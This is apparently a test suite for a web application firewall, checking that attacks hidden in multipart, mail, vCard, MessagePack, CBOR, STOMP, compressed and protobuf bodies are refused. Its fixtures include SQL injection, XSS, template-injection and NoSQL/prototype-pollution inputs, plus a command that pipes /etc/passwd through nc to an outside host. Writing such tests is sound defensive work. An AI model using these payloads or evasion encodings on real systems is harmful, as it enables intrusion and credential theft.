import { brotliCompressSync, gzipSync } from 'node:zlib';
import { sites } from './test-support/send.ts';

const CONNECTION = {
  id: 'test',
  clientAddress: '192.0.2.1',
  clientPort: 1,
  serverAddress: '192.0.2.2',
  serverPort: 80,
};
const ATTACKS = {
  SQL: "1' UNION SELECT username, password FROM users-- -",
  script: '<script>alert(document.cookie)</script>',
  command: ';cat /etc/passwd|nc 192.0.2.9 4444',
  template: "{{''.__class__.__mro__[1].__subclasses__()}}",
};

/** The id of each rule that counts, and whether the request is refused. */
function judge(type: string, content: string | Buffer, ...headers: string[]) {
  const body = Buffer.from(content as string);
  const transaction = sites.medium.beginTransaction(CONNECTION);
  transaction.requestLine('POST', '/api', 'HTTP/1.1');
  transaction.requestHeaders([
    ...['Host', 'a.example', 'User-Agent', 'Mozilla/5.0', 'Content-Type', type, ...headers],
    ...['Content-Length', String(body.length)],
  ]);
  transaction.requestBodyChunk(body);
  transaction.requestBody();
  transaction.logging();
  const { interruption, wouldInterrupt, matches } = transaction.audit();
  return {
    isRefused: (interruption ?? wouldInterrupt) !== null,
    rules: matches.filter(({ score }) => score > 0).map(({ ruleId }) => ruleId),
  };
}
const frame = (message: Buffer, flags = 0): Buffer => {
  const head = Buffer.alloc(5);
  head[0] = flags;
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
};

/** With each attack in turn. */
function expectRefused(send: (attack: string) => { isRefused: boolean }) {
  for (const [name, attack] of Object.entries(ATTACKS))
    expect([name, send(attack).isRefused]).toEqual([name, true]);
}

describe('parts within parts', () => {
  const changes = (request: string, body: string) =>
    `--b\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n${request} HTTP/1.1\r\nContent-Type: application/json\r\n\r\n${body}\r\n--c--\r\n--b--\r\n`;
  const mail = (words: string) =>
    `--b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n--c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${words}\r\n--c\r\nContent-Type:text/html; charset=utf-8\r\n\r\n<p>${words}</p>\r\n--c--\r\n--b--\r\n`;

  it.each([
    ['changes of OData', changes('POST Items', '{"Name":"Ann"}')],
    ['changes of OData, of one that is there', changes("MERGE Items('12')", '{"Name":"Ann","Qty":2}')],
    ['a mail of text and HTML', mail('Hello')],
  ])('pass where they are %s', (_what, body) => {
    expect(judge('multipart/mixed; boundary=b', body)).toEqual({ isRefused: false, rules: [] });
  });

  it('are judged', () => {
    expectRefused((attack) =>
      judge('multipart/mixed; boundary=b', changes('POST Items', JSON.stringify({ Name: attack }))),
    );
    expectRefused((attack) => judge('multipart/mixed; boundary=b', mail(attack)));
  });
});

describe('a request in a part', () => {
  const part = (fields: string, content: string) =>
    `--b\r\nContent-Type: application/http\r\n${fields}\r\n${content}\r\n--b--\r\n`;
  const escaped = (text: string) =>
    `{"n":"${[...text].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`;
  const request = (content: string, before = '', method = 'POST') =>
    `${before}${method} /items HTTP/1.1\r\nContent-Type: application/json\r\n\r\n${content}`;
  const ofBatch = (body: string) => judge('multipart/mixed; boundary=b', body);

  it('is judged whatever stands before it, in small letters, and in base64', () => {
    expectRefused((attack) => ofBatch(part('', request(escaped(attack), '\r\n'.repeat(20)))));
    expectRefused((attack) => ofBatch(part('', request(escaped(attack), '', 'post'))));
    expectRefused((attack) =>
      ofBatch(
        part(
          'Content-Transfer-Encoding: base64\r\n',
          Buffer.from(request(escaped(attack))).toString('base64'),
        ),
      ),
    );
  });

  it('is judged by its address and its headers', () => {
    expectRefused((attack) =>
      ofBatch(part('', `GET /items?q=${encodeURIComponent(attack)} HTTP/1.1\r\nHost: a.example\r\n\r\n`)),
    );
    expectRefused((attack) => ofBatch(part('', `GET /items HTTP/1.1\r\nX-Name: ${attack}\r\n\r\n`)));
  });

  it('passes with what requests have', () => {
    const fields =
      'Host: a.example\r\nAccept: application/json;odata=verbose, */*;q=0.8\r\nIf-Match: W/"1"\r\nAuthorization: Bearer abc.def.ghi\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nCookie: a=b; c=d\r\n';
    for (const target of [
      "Items('12')?$expand=Orders&$filter=Name eq 'Ann'",
      '/v1/users?fields=id,name&q=a+b',
    ])
      expect(
        ofBatch(
          part('', `PATCH ${target.replaceAll(' ', '%20')} HTTP/1.1\r\n${fields}\r\n{"Name":"Ann & Bob"}`),
        ),
      ).toEqual({ isRefused: false, rules: [] });
  });
});

describe('a request or a mail as a body', () => {
  const escaped = (text: string) =>
    `{"n":"${[...text].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`;
  const request = (attack: string) =>
    `POST /items HTTP/1.1\r\nContent-Type: application/json\r\n\r\n${escaped(attack)}`;
  const quoted = (text: string) =>
    [...Buffer.from(text)].map((byte) => `=${byte.toString(16).padStart(2, '0').toUpperCase()}`).join('');
  const form = (type: string, name: string, content: string) =>
    judge(
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; ${name}\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--b--\r\n`,
    );

  it.each(['application/http', 'application/http;msgtype=request', 'message/http'])(
    '%s is judged',
    (type) => {
      expectRefused((attack) => judge(type, request(attack)));
      expectRefused((attack) => form(type, 'name="q"', request(attack)));
      expectRefused((attack) => form(type, 'name="q"; filename="a.http"', request(attack)));
    },
  );

  it.each([
    ['quoted-printable', quoted],
    ['base64', (text: string) => Buffer.from(text).toString('base64').replaceAll(/.{20}/g, '$&\r\n')],
  ])('a mail in %s is judged, whole or in parts', (coding, encode) => {
    const head = `Content-Type: text/plain;\r\n charset=utf-8\r\nContent-Transfer-Encoding: ${coding}\r\n\r\n`;
    const whole = (attack: string) => `From: ann@a.example\r\n${head}${encode(attack)}\r\n`;
    expectRefused((attack) => judge('message/rfc822', whole(attack)));
    expectRefused((attack) => form('message/rfc822', 'name="mail"', whole(attack)));
    expectRefused((attack) =>
      judge(
        'message/rfc822',
        `From: ann@a.example\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n${head}${encode(attack)}\r\n--c--\r\n`,
      ),
    );
  });

  it('passes as people write', () => {
    const words = 'Dear Ann,\r\n\r\nplease select one of two rooms; see <https://a.example/?a=b&c=d>.\r\n';
    const mail = `From: Lee <lee@a.example>\r\nSubject: =?utf-8?q?Rooms=3B_orders?=\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${words.replaceAll('=', '=3D')}`;
    expect(judge('message/rfc822', mail)).toEqual({ isRefused: false, rules: [] });
    expect(judge('application/http', request('Ann & Bob'))).toEqual({ isRefused: false, rules: [] });
  });
});

describe('cards and calendars', () => {
  const folded = (text: string) => text.replaceAll(/.{4}/g, '$&\r\n ');
  const card = (lines: string, before = '') =>
    `${before}BEGIN:VCARD\r\nVERSION:4.0\r\n${lines}\r\nEND:VCARD\r\n`;

  it.each([
    ['behind line ends', (attack: string) => card(`NOTE:${folded(attack)}`, '\r\n'.repeat(9))],
    ['behind another line', (attack: string) => card(`NOTE:${folded(attack)}`, 'X:1\r\n')],
    [
      'in a parameter',
      (attack: string) => card(`ATTENDEE;CN="${folded(attack.replaceAll('"', ''))}":mailto:a@b`),
    ],
    ['behind a lone quote', (attack: string) => card(`NOTE;X='":${folded(attack)}`)],
    ['of a name over lines', (attack: string) => card(`NO\r\n TE:${folded(attack)}`)],
  ])('are judged: a folded text %s', (_where, body) => {
    expectRefused((attack) => judge('text/vcard', body(attack)));
  });

  const ofFile = (content: string) =>
    judge(
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n--b--\r\n`,
    );

  it.each([9, 16_380, 40_000, 300_000])(
    'are judged in a file without a type behind %i line ends',
    (count) => {
      expectRefused((attack) => ofFile('\n'.repeat(count) + card(`NOTE:${folded(attack)}`)));
    },
  );

  it('pass in an archive of mails and beside prose', () => {
    const mail = 'From ann@a.example\nSubject: select a room, from the list; or 1 of 2\n\nHello &c.\n';
    expect(ofFile(mail.repeat(900) + card('FN:Ann'))).toEqual({ isRefused: false, rules: [] });
  });

  it('pass as telephones and calendars write them', () => {
    const event =
      'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//A//B 1.0//EN\r\nBEGIN:VEVENT\r\nUID:1@a.example\r\nDTSTART;TZID=Europe/Berlin:20260102T100000\r\nORGANIZER;CN="Ann O\'Neil; Bob & Co.":mailto:ann@a.example\r\nATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;CN="Lee, Kim (HR)":mailto:kim@a.example\r\nATTACH;FMTTYPE=application/pdf;X-FILENAME="a b.pdf":https://a.example/a\r\n .pdf\r\nDESCRIPTION:Select a room\\, order coffee\\nfrom the table\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n';
    expect(judge('text/calendar', event)).toEqual({ isRefused: false, rules: [] });
    expect(judge('text/vcard', card('FN;CHARSET=UTF-8:Ann\r\nTEL;TYPE="voice,home":tel:+49-1'))).toEqual({
      isRefused: false,
      rules: [],
    });
  });
});

describe('messages of MessagePack and CBOR', () => {
  const picture = Buffer.from(Array.from({ length: 4_000 }, (_, at) => (at * at * 7) % 251));
  const ofMessagePack = (text: string, key = 'q') =>
    Buffer.concat([
      Buffer.from([0x82, 0xa1]),
      Buffer.from('p'),
      Buffer.from([0xc5, picture.length >> 8, picture.length & 0xff]),
      picture,
      Buffer.from([0xd9, key.length]),
      Buffer.from(key),
      Buffer.from([0xda, text.length >> 8, text.length & 0xff]),
      Buffer.from(text),
    ]);
  const ofCbor = (text: string) =>
    Buffer.concat([
      Buffer.from([0xbf, 0x61]),
      Buffer.from('p'),
      Buffer.from([0x59, picture.length >> 8, picture.length & 0xff]),
      picture,
      Buffer.from([0x61]),
      Buffer.from('q'),
      Buffer.from([0x7f]),
      ...[...text].map((sign) => Buffer.concat([Buffer.from([0x61]), Buffer.from(sign)])),
      Buffer.from([0xff, 0xff]),
    ]);

  it.each([
    'application/msgpack',
    'application/x-msgpack',
    'application/octet-stream',
    'image/png',
    'application/cbor',
  ])('are judged beside a picture, called %s', (type) => {
    expectRefused((attack) => judge(type, ofMessagePack(attack)));
    expectRefused((attack) => judge(type, ofMessagePack('a name', attack)));
    expectRefused((attack) => judge(type, Buffer.concat([ofMessagePack(attack), Buffer.from([0xc1])])));
    expectRefused((attack) => judge(type, ofCbor(attack)));
  });

  it.each(['application/msgpack', 'application/octet-stream', 'application/cbor'])(
    'are judged by the names of their members, called %s',
    (type) => {
      const inPacks = (...names: string[]) =>
        Buffer.from(
          `${names.map((name) => `\x81${String.fromCharCode(0xa0 + name.length)}${name}`).join('')}\x01`,
          'latin1',
        );
      const inCbor = (...names: string[]) =>
        Buffer.from(
          `${names.map((name) => `\xa1${String.fromCharCode(0x60 + name.length)}${name}`).join('')}\x01`,
          'latin1',
        );
      for (const pack of [inPacks, inCbor]) {
        for (const names of [
          ['password', '$ne'],
          ['user', '$where'],
          ['a', '__proto__', 'isAdmin'],
        ])
          expect(judge(type, pack(...names)).isRefused).toBe(true);
        expect(judge(type, pack('user', 'password', 'is$new')).isRefused).toBe(false);
      }
    },
  );

  it.each(['application/msgpack', 'application/octet-stream'])('pass as %s', (type) => {
    for (const text of [
      "It's a select few & more",
      'Ann O’Neil <ann@a.example>',
      'https://a.example/a?b=c&d=e',
    ]) {
      expect(judge(type, ofMessagePack(text))).toEqual({ isRefused: false, rules: [] });
      expect(judge(type, ofCbor(text))).toEqual({ isRefused: false, rules: [] });
    }
  });
});

describe('frames of STOMP', () => {
  const escaped = (text: string) =>
    `{"n":"${[...text].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`;
  const json = (frames: string) => judge('application/json', JSON.stringify({ message: frames }));

  it('are judged by the documents in them', () => {
    expectRefused((attack) => json(`SEND\ndestination:/app/a\n\n${escaped(attack)}\0`));
    expectRefused((attack) => json(`\n\nSEND\r\ndestination:/app/a\r\n\r\n${escaped(attack)}\0\n`));
    expectRefused((attack) => json(`SEND\na:b\n\n{}\0\nSEND\na:b\n\n${escaped(attack)}\0`));
    expectRefused((attack) => json(`SEND\ncontent-length:99\n\n{"a":"\0",${escaped(attack).slice(1)}\0`));
    expectRefused((attack) =>
      judge('application/json', JSON.stringify([`SEND\na:b\n\n${escaped(attack)}\0`])),
    );
  });

  it('pass', () => {
    expect(json('CONNECT\naccept-version:1.1,1.2\nheart-beat:10000,10000\n\n\0')).toEqual({
      isRefused: false,
      rules: [],
    });
    expect(json('SEND\ndestination:/app/chat\n\n{"text":"see you at 5 & bring <3"}\0')).toEqual({
      isRefused: false,
      rules: [],
    });
  });
});

describe('packed messages', () => {
  const json = (attack: string) => Buffer.from(JSON.stringify({ note: attack }));

  it('are judged whatever further fields say of how they are packed', () => {
    const type = 'application/connect+json';
    const ofConnect = ['Connect-Content-Encoding', 'gzip'];
    expectRefused((attack) =>
      judge(type, frame(gzipSync(json(attack)), 1), ...ofConnect, 'Grpc-Encoding', 'deflate'),
    );
    expectRefused((attack) =>
      judge(type, frame(gzipSync(json(attack)), 1), 'Grpc-Encoding', 'deflate', 'Grpc-Encoding', 'gzip'),
    );
    expectRefused((attack) =>
      judge(type, frame(brotliCompressSync(json(attack)), 1), 'Connect-Content-Encoding', 'br'),
    );
  });

  it('are refused where nobody can unpack them, and pass where they say nothing bad', () => {
    const type = 'application/connect+json';
    expect(
      judge(type, frame(Buffer.from('\xffqqqq', 'latin1'), 1), 'Connect-Content-Encoding', 'x-own'),
    ).toMatchObject({
      isRefused: true,
    });
    expect(judge(type, frame(gzipSync(json("It's Ann")), 1), 'Connect-Content-Encoding', 'gzip')).toEqual({
      isRefused: false,
      rules: [],
    });
  });
});

describe('messages of protocol buffers beside a picture', () => {
  const varint = (value: number): number[] =>
    value < 128 ? [value] : [(value % 128) + 128, ...varint(Math.floor(value / 128))];
  const field = (number: number, content: string | Buffer): Buffer => {
    const bytes = Buffer.from(content as string);
    return Buffer.concat([Buffer.from([...varint(number * 8 + 2), ...varint(bytes.length)]), bytes]);
  };
  const picture = field(2, Buffer.from(Array.from({ length: 4000 }, (_, at) => (at * at * 7) % 251)));
  const deep = (content: Buffer, depth: number): Buffer =>
    depth === 0 ? content : field(1, deep(content, depth - 1));

  it.each([
    [
      'with a group that nobody knows',
      (text: string) => Buffer.concat([field(1, text), Buffer.from([0x7b, 0x7c])]),
    ],
    ['with a control in the text', (text: string) => field(1, `${text}\x0b`)],
    ['with a NUL before the text', (text: string) => field(1, `\0${text}`)],
    ['forty deep', (text: string) => deep(field(1, text), 40)],
  ])('are judged %s, whatever their type is called', (_what, content) => {
    for (const type of [
      'application/x-protobuf',
      'application/x-google-protobuf',
      'application/octet-stream',
    ])
      expectRefused((attack) => judge(type, Buffer.concat([content(attack), picture])));
    expectRefused((attack) =>
      judge('application/grpc+own', frame(Buffer.concat([content(attack), picture]))),
    );
  });

  it('pass where they are spans with ids', () => {
    const span = (at: number) =>
      field(
        2,
        Buffer.concat([
          field(1, Buffer.from(Array.from({ length: 16 }, (_, byte) => (at * 31 + byte * byte * 57) % 256))),
          field(5, 'HTTP GET'),
          field(9, Buffer.concat([field(1, 'http.route'), field(2, field(1, `/orders/${at}`))])),
        ]),
      );
    const spans = Buffer.concat(Array.from({ length: 500 }, (_, at) => span(at)));
    expect(judge('application/x-protobuf', field(1, spans))).toEqual({ isRefused: false, rules: [] });
  });
});
